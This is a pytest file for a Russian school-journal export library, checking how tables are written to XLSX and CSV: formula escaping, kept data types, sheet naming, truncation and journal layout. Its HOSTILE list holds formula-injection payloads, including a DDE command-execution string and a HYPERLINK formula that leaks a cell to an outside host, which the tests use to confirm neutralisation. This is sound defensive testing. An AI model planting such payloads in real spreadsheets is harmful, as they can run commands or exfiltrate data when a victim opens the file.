"""XLSX and CSV: formulas stay text, dates stay dates, nothing is cut."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from documents.csvfile import csv_bytes
from documents.journal import journal_csv, journal_xlsx
from documents.table import Column, Table, Value
from documents.xlsx import xlsx_bytes
from tests.documents.sheets import make_sheet

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def one_value(value: Value) -> Table:
    return Table("Лист", [Column("Значение")], [[value]])


def cell_of(table: Table) -> openpyxl.cell.Cell:
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table))).active["A2"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formulas_are_neutralised(text: str) -> None:
    assert read_csv(csv_bytes(one_value(text)))[1] == ["'" + text]
    cell = cell_of(one_value(text))
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


@pytest.mark.parametrize("text", ["н", "4/5", "Иванов-Петров", "— без темы", "http://x/", "0123", "1e5", ""])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert read_csv(csv_bytes(one_value(text)))[1:] == [[text]]
    cell = cell_of(one_value(text))
    assert (cell.value or "", cell.hyperlink) == (text, None)


def test_headings_and_captions_are_neutralised_too() -> None:
    table = Table("Лист", [Column("=1+1")], [], caption=["=2+2"])
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table))).active
    assert (sheet["A1"].value, sheet["A3"].value) == ("'=2+2", "'=1+1")
    assert read_csv(csv_bytes(table)) == [["'=1+1"]]


def test_phone_in_a_sheet_needs_no_apostrophe_but_in_csv_it_does() -> None:
    assert cell_of(one_value("+7 (913) 200-11-22")).value == "+7 (913) 200-11-22"
    assert read_csv(csv_bytes(one_value("+7 (913) 200-11-22")))[1] == ["'+7 (913) 200-11-22"]


@pytest.mark.parametrize(
    ("value", "in_csv", "in_xlsx", "number_format"),
    [
        (date(2023, 9, 1), "01.09.2023", datetime(2023, 9, 1), "dd.mm.yyyy"),
        (datetime(2023, 9, 1, 8, 30), "01.09.2023 08:30", datetime(2023, 9, 1, 8, 30), "dd.mm.yyyy hh:mm"),
        (datetime(2023, 9, 1, 8, 30, tzinfo=UTC), "01.09.2023 08:30", datetime(2023, 9, 1, 8, 30), "dd.mm.yyyy hh:mm"),
        (5, "5", 5, "General"),
        (-5, "-5", -5, "General"),  # a number is not a formula
        (Decimal("4.25"), "4,25", 4.25, "General"),
        (True, "да", "да", "General"),
        (None, "", None, "General"),
    ],
)
def test_values_keep_their_types(value: Value, in_csv: str, in_xlsx: object, number_format: str) -> None:
    assert read_csv(csv_bytes(one_value(value)))[1:] == [[in_csv]]
    cell = cell_of(one_value(value))
    assert (cell.value, cell.number_format) == (in_xlsx, number_format)


def test_quotes_semicolons_and_lines_survive_csv() -> None:
    text = 'Тема: «циклы»; "for"\nи while'
    assert read_csv(csv_bytes(one_value(text)))[1] == [text]


@pytest.mark.parametrize(("column", "in_csv"), [
    ([True, 1, None, 1.0, False, 0], ["да", "1", "", "1,0", "нет", "0"]),  # equal, and read otherwise
    ([Decimal("4.0"), Decimal("4.00"), None], ["4,0", "4,00", ""]),
    (["=1", "а;б", "=1", None, "а;б"], ["'=1", "а;б", "'=1", "", "а;б"]),
    ([date(2023, 9, 1), None, date(2023, 9, 1)], ["01.09.2023", "", "01.09.2023"]),
], ids=["numbers and flags", "fractions", "texts", "days"])
def test_repeated_values_read_as_each_of_them_would(column: list[Value], in_csv: list[str]) -> None:
    table = Table("Лист", [Column("Значение"), Column("№")], [[value, 1] for value in column])
    assert [row[0] for row in read_csv(csv_bytes(table))[1:]] == in_csv


def test_rows_beyond_a_sheet_go_on_over_the_next_one() -> None:
    table = Table("Отметки", [Column("№")], ([number] for number in range(25)))
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, sheet_rows=11)))
    assert book.sheetnames == ["Отметки", "Отметки (2)", "Отметки (3)"]
    assert [cell.value for sheet in book for (cell,) in sheet.iter_rows(min_row=2)] == list(range(25))
    exact = Table("Отметки", [Column("№")], ([number] for number in range(10)))
    assert openpyxl.load_workbook(io.BytesIO(xlsx_bytes(exact, sheet_rows=11))).sheetnames == ["Отметки"]


def test_titles_that_excel_would_refuse() -> None:
    titles = ["Группа: [ИС-21]/1?*", "", "Д" * 40, "Д" * 40, "'кавычки'"]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(*(Table(title, [Column("а")], []) for title in titles))))
    assert book.sheetnames == ["Группа   ИС-21  1", "Лист", "Д" * 31, "Д" * 27 + " (2)", "кавычки"]


def test_too_long_text_is_shortened_to_what_a_cell_holds() -> None:
    assert cell_of(one_value("ж" * 40_000)).value == "ж" * 32_766 + "…"


def test_same_table_gives_the_same_bytes() -> None:
    assert journal_xlsx(make_sheet()) == journal_xlsx(make_sheet())


def test_journal_as_a_workbook() -> None:
    sheet = make_sheet(5, 12)
    marks, topics = openpyxl.load_workbook(io.BytesIO(journal_xlsx(sheet)))
    assert (marks.title, topics.title) == ("Отметки", "Темы и задания")
    assert (marks.freeze_panes, topics.freeze_panes) == ("C6", "C6")
    assert marks.column_dimensions["B"].width > 30
    head = [cell.value for cell in marks[5]]
    assert head[:3] == ["№", "Фамилия, имя, отчество", "06.09.2023"]
    assert head[9:11] == ["22.09.2023, 1 пара", "22.09.2023, 2 пара"]
    assert head[-4:] == ["I семестр", "Экзамен", "Итоговая", "Примечание"]
    assert marks.max_row == 5 + len(sheet.students)
    assert [str(cell.value or "") for cell in marks[6]][2:14] == [sheet.cells[1, n] for n in range(1, 13)]
    assert marks["R10"].value == "выбыл 13.10.2023, пр. № 214"
    assert topics["B6"].value == datetime(2023, 9, 6)
    assert topics.max_row == 5 + len(sheet.lessons)


def test_journal_as_csv_holds_both_pages() -> None:
    sheet = make_sheet(5, 12)
    rows = read_csv(journal_csv(sheet))
    divider = rows.index([])
    assert divider == 1 + len(sheet.students)
    assert rows[divider + 1][4] == "Тема"
    assert [row[1] for row in rows[divider + 2 :]] == [f"{lesson.date:%d.%m.%Y}" for lesson in sheet.lessons]


def test_empty_journal_still_has_its_headings() -> None:
    assert read_csv(journal_csv(make_sheet(0, 0)))[0][:2] == ["№", "Фамилия, имя, отчество"]
    assert len(openpyxl.load_workbook(io.BytesIO(journal_xlsx(make_sheet(0, 0)))).sheetnames) == 2
